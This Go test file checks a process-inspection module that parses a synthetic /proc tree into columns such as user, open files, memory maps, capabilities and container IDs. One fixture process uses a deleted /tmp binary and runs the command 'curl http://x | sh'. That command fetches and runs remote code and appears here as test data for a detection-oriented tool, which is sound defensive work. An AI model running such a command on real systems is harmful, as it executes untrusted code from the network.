package process

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/quaestor-engine/quaestor/modules"
	"github.com/quaestor-engine/quaestor/modules/hostfs"
	"github.com/quaestor-engine/quaestor/modules/moduletest"
	"github.com/quaestor-engine/quaestor/value"
)

const containerHash = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

// host makes a tree with a /proc of three processes: init, a shell whose
// program was deleted, and a thread of the kernel.
func host(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	stat := func(pid int, name, state string, parent, flags int) string {
		return fmt.Sprintf("%d (%s) %s %d %d %d 34816 -1 %d 0 0 0 0 150 50 0 0 20 5 3 0 1000 1048576 25 0 0 0", pid, name, state, parent, pid, pid, flags)
	}
	status := func(uid int) string {
		return fmt.Sprintf("Name:\tx\nTracerPid:\t0\nUid:\t%d\t%d\t0\t0\nGid:\t100\t100\t0\t0\nGroups:\t4 27 \nCapEff:\t0000000000003000\nNoNewPrivs:\t1\nSeccomp:\t2\n", uid, uid)
	}
	for name, text := range map[string]string{
		"etc/passwd": "root:x:0:0:root:/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/bash\n",
		"proc/stat":  "cpu 1 2 3\nbtime 1700000000\n",
		"bin/init":   "the program",

		"proc/1/stat": stat(1, "init", "S", 0, 0), "proc/1/status": status(0), "proc/1/cmdline": "/bin/init\x00--fast\x00",
		"proc/1/exe": "->/bin/init", "proc/1/cwd": "->/", "proc/1/root": "->/", "proc/1/cgroup": "0::/init.scope\n",
		"proc/1/environ": "PATH=/bin\x00EMPTY=\x00", "proc/1/fd/0": "->/dev/null", "proc/1/fd/3": "->socket:[4711]",
		"proc/1/fd/10": "->/var/log/x (deleted)", "proc/1/fd/4": "->pipe:[12]", "proc/1/fd/5": "->anon_inode:[eventpoll]", "proc/1/fd/6": "->/memfd:x (deleted)",
		"proc/1/fdinfo/0": "pos:\t0\nflags:\t0100002\n", "proc/1/fdinfo/3": "flags:\t02\n", "proc/1/fdinfo/10": "flags:\t0100001\n",
		"proc/1/fdinfo/4": "flags:\t00\n", "proc/1/fdinfo/5": "flags:\t02\n", "proc/1/fdinfo/6": "flags:\t02\n",
		"proc/1/ns/net": "->net:[4026531840]", "proc/1/ns/pid_for_children": "->pid:[1]",
		"proc/1/task/1/stat": stat(1, "init", "S", 0, 0), "proc/1/task/7/stat": stat(7, "worker (1)", "R", 0, 0),
		"proc/1/maps": "00400000-00402000 r-xp 00001000 fd:01 77   /bin/init\n7f0000000000-7f0000001000 ---p 00000000 00:00 0 \n7ffd00000000-7ffd00021000 rw-p 00000000 00:00 0                          [stack]\n7fff00000000-7fff00001000 r--s 00000000 00:01 9 /tmp/a b (deleted)\n",

		"proc/42/stat": stat(42, "a) S 9 (sh", "R", 1, 0), "proc/42/status": status(1000), "proc/42/cmdline": "sh\x00-c\x00curl http://x | sh\x00",
		"proc/42/exe": "->/tmp/.x (deleted)", "proc/42/cwd": "->/tmp", "proc/42/root": "->/",
		"proc/42/cgroup": "12:cpu:/\n1:name=systemd:/system.slice/docker-" + containerHash + ".scope\n",
		"proc/42/maps":   "", "proc/42/environ": "", "proc/42/fd/.keep": "", "proc/42/ns/.keep": "", "proc/42/task/.keep": "",

		"proc/2/stat": stat(2, "kthreadd", "S", 0, 0x200000), "proc/2/status": status(0), "proc/2/cmdline": "",
		"proc/2/cwd": "->/", "proc/2/root": "->/", "proc/2/cgroup": "0::/\n", "proc/2/maps": "", "proc/2/environ": "",
		"proc/2/fd/.keep": "", "proc/2/ns/net": "->net:[4026531840]", "proc/2/task/2/stat": stat(2, "kthreadd", "S", 0, 0x200000),
	} {
		p := filepath.Join(root, filepath.FromSlash(name))
		err := os.MkdirAll(filepath.Dir(p), 0o755)
		if to, ok := strings.CutPrefix(text, "->"); ok {
			err = errors.Join(err, os.Symlink(to, p))
		} else if !strings.HasSuffix(name, ".keep") {
			err = errors.Join(err, os.WriteFile(p, []byte(text), 0o644))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func TestContract(t *testing.T) {
	for _, m := range Modules() {
		if name := m.Schema().Name; name != "memory" { // which no tree has
			t.Run(name, func(t *testing.T) { moduletest.Run(t, m, host(t)) })
		}
	}
}

func TestProcess(t *testing.T) {
	root := host(t)
	columns := []string{"pid", "parent", "name", "user", "exe", "path", "deleted", "cmdline", "state", "tty", "started", "cpu_time", "kernel"}
	got, rec := moduletest.Rows(t, process(), root, columns, nil)
	want := []string{
		"1 | 0 | init | root | /bin/init | /bin/init | false | /bin/init --fast | sleeping | pts/0 | 2023-11-14T22:13:30Z | 2s | false",
		"2 | 0 | kthreadd | root | null | null | null | null | sleeping | pts/0 | 2023-11-14T22:13:30Z | 2s | true",
		"42 | 1 | a) S 9 (sh | ann | /tmp/.x | /tmp/.x | true | sh -c curl http://x | sh | running | pts/0 | 2023-11-14T22:13:30Z | 2s | false",
	}
	if !slices.Equal(got, want) || len(rec.Skips()) != 0 {
		t.Errorf("%s\n%+v", strings.Join(got, "\n"), rec.Skips())
	}
	columns = []string{"uid", "euid", "gid", "groups", "threads", "nice", "virtual_memory", "capabilities", "seccomp", "no_new_privs", "tracer", "cgroup", "container", "namespaces", "open_files", "env", "args", "cwd", "root", "session"}
	got, rec = moduletest.Rows(t, process(), root, columns, []string{"1", "a) S*"})
	want = []string{
		"0 | 0 | 100 | [4, 27] | 3 | 5 | 1MiB | [cap_net_admin, cap_net_raw] | filter | true | null | /init.scope | null | [net:[4026531840]] | 6 | [PATH=/bin, EMPTY=] | [/bin/init, --fast] | / | / | 1",
		"1000 | 1000 | 100 | [4, 27] | 3 | 5 | 1MiB | [cap_net_admin, cap_net_raw] | filter | true | null | /system.slice/docker-" + containerHash + ".scope | " + containerHash + " | [] | 0 | [] | [sh, -c, curl http://x | sh] | /tmp | / | 42",
	}
	if !slices.Equal(got, want) || len(rec.Skips()) != 0 {
		t.Errorf("%s\n%+v", strings.Join(got, "\n"), rec.Skips())
	}
}

func TestTimesAndRights(t *testing.T) {
	root := host(t)
	io := filepath.Join(root, "proc/1/io")
	if err := os.WriteFile(io, []byte("rchar: 5\nread_bytes: 4096\nwrite_bytes: 8192\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	got, _ := moduletest.Rows(t, process(), root, []string{"cpu_time", "user_time", "system_time", "saved_uid", "saved_gid", "read_bytes", "written_bytes"}, []string{"1"})
	if want := []string{"2s | 1s500ms | 500ms | 0 | 0 | 4KiB | 8KiB"}; !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
	got, _ = moduletest.Rows(t, mapping(), root, []string{"device", "inode"}, []string{"init"})
	if len(got) != 4 || got[1] != "00:00 | 0" {
		t.Errorf("%q", got)
	}
}

func TestParts(t *testing.T) {
	root := host(t)
	for _, c := range []struct {
		module  modules.Module
		columns []string
		want    []string
	}{
		{openFile(), []string{"process", "fd", "type", "path", "target", "deleted", "inode", "access"}, []string{
			"1 | 0 | device | /dev/null | /dev/null | false | null | read_write",
			"1 | 3 | socket | null | socket:[4711] | false | 4711 | read_write",
			"1 | 4 | pipe | null | pipe:[12] | false | 12 | read",
			"1 | 5 | anon_inode | null | anon_inode:[eventpoll] | false | null | read_write",
			"1 | 6 | memfd | null | /memfd:x (deleted) | true | null | read_write",
			"1 | 10 | file | /var/log/x | /var/log/x (deleted) | true | null | write",
		}},
		{environment(), []string{"process", "name", "value"}, []string{"1 | PATH | /bin", "1 | EMPTY | null"}},
		{thread(), []string{"process", "tid", "name", "state", "age"}, []string{"1 | 1 | init | sleeping | 10s", "1 | 7 | worker (1) | running | 10s"}},
		{mapping(), []string{"process", "start", "size", "permissions", "path", "name", "offset", "anonymous", "deleted"}, []string{
			"1 | 0x0000000000400000 | 8KiB | r-xp | /bin/init | /bin/init | 4KiB | false | false",
			"1 | 0x00007f0000000000 | 4KiB | ---p | null | null | 0 | true | false",
			"1 | 0x00007ffd00000000 | 132KiB | rw-p | null | [stack] | 0 | true | false",
			"1 | 0x00007fff00000000 | 4KiB | r--s | /tmp/a b | /tmp/a b (deleted) | 0 | false | true",
		}},
	} {
		got, rec := moduletest.Rows(t, c.module, root, c.columns, []string{"init"})
		if !slices.Equal(got, c.want) || len(rec.Skips()) != 0 {
			t.Errorf("%s:\n%s\n%+v", c.module.Schema().Name, strings.Join(got, "\n"), rec.Skips())
		}
	}
}

// A process that is asked for and is not there is named, and a link to one is
// followed into nothing.
func TestNotThere(t *testing.T) {
	root := host(t)
	got, rec := moduletest.Rows(t, process(), root, []string{"pid"}, []string{"99"})
	if len(got) != 0 || len(rec.Skips()) != 1 || rec.Skips()[0].Kind != modules.SkipNotFound {
		t.Errorf("%q, %+v", got, rec.Skips())
	}
	req, rec := moduletest.Request(t, process(), root, []string{"pid"})
	req.Keys = []value.Value{value.NewInt(99), value.NewInt(42)}
	n := 0
	if err := process().Scan(t.Context(), req, func(modules.Row) error { n++; return nil }); err != nil || n != 1 || len(rec.Skips()) != 0 {
		t.Errorf("%d rows, %v, %+v", n, err, rec.Skips())
	}
}

// What is not in its format is no process and no part of one, and is named.
func TestMalformed(t *testing.T) {
	root := host(t)
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(root, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("proc/42/stat", "42 (sh S 1")
	write("proc/1/status", "Name:\tx\n")
	write("proc/1/maps", "nonsense\n")
	got, rec := moduletest.Rows(t, process(), root, []string{"pid", "uid", "euid", "user"}, nil)
	if want := []string{"1 | null | null | null", "2 | 0 | 0 | root"}; !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
	var where []string
	for _, s := range rec.Skips() {
		where = append(where, s.Where)
	}
	if want := []string{"process 1.uid", "process 42"}; !slices.Equal(where, want) {
		t.Errorf("%+v", rec.Skips())
	}
	if got, rec := moduletest.Rows(t, mapping(), root, []string{"start"}, []string{"1"}); len(got) != 0 || len(rec.Skips()) != 1 {
		t.Errorf("%q, %+v", got, rec.Skips())
	}
}

func TestTerminals(t *testing.T) {
	for tty, want := range map[int64]string{0: "", 4<<8 | 1: "tty1", 4<<8 | 64: "ttyS0", 136<<8 | 3: "pts/3", 0x8800 | 1<<20: "pts/256", 5<<8 | 1: "5:1"} {
		if got := (&stat{tty: tty}).ttyName(); got != want {
			t.Errorf("%#x is %q, not %q", tty, got, want)
		}
	}
}

func FuzzFormats(f *testing.F) {
	f.Add([]byte("1 (x) S 0 1 1 0 -1 0 0 0 0 0 1 2 0 0 20 0 1 0 5 4096 1 0 0"))
	f.Add([]byte("Uid:\t0\t0\nGroups:\t1 2\nCapEff:\tffffffffffffffff\n"))
	f.Add([]byte("00400000-00402000 r-xp 00001000 fd:01 77   /bin/x"))
	f.Fuzz(func(t *testing.T, text []byte) {
		if s, err := parseStat(text); err == nil {
			s.stateName()
			s.ttyName()
		} else if !errors.Is(err, hostfs.ErrMalformed) {
			t.Errorf("%v", err)
		}
		if i, err := parseInfo(text); err == nil {
			capabilityNames(i.capabilities)
		} else if !errors.Is(err, hostfs.ErrMalformed) {
			t.Errorf("%v", err)
		}
		if r, ok := parseRegion(text); ok && (r.size() < 0 || len(r.permissions) != 4) {
			t.Errorf("%+v", r)
		}
		if id := containerID(string(text)); id != "" && len(id) != 64 {
			t.Errorf("%q", id)
		}
		if b, err := parseBoot(text); err == nil && !b.After(time.Unix(0, 0)) {
			t.Errorf("%v", b)
		}
	})
}
